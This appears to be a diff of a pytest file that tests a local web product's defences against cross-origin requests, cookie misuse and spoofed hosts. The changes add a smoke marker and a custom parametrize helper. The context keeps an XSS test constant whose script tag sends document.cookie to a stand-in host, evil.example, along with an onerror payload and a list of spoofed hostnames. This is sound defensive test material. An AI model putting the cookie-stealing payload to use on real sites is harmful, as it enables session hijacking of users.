@@ -6,6 +6,7 @@ import json
 from typing import Any
 
 import pytest
+from tests.tables import for_each
 
 EVIL = "https://evil.example"
 MARKUP = "<script>fetch('//evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>"
@@ -45,6 +46,7 @@ async def _runs_there_are(product: Any) -> list[str]:
     return [run["run_id"] for run in (await product.ask("GET", "/api/v1/runs")).json["items"]]
 
 
+@pytest.mark.smoke
 async def test_the_cookie_works_from_our_own_page_and_from_nowhere_else(product: Any, cookie: str) -> None:
     own = f"http://127.0.0.1:{product.port}"
     body = {"agent": "mirror", "input": {"text": "hello"}}
@@ -94,7 +96,7 @@ async def test_a_page_of_another_site_opens_no_websocket(product: Any, cookie: s
     assert (await product.shake(path, own, token=False)).status == 401
 
 
-@pytest.mark.parametrize(
+@for_each(
     "name",
     ["evil.example", "evil.example:8420", "127.0.0.1.evil.example", "localhost.evil.example", "0.0.0.0", "[::2]"],
 )
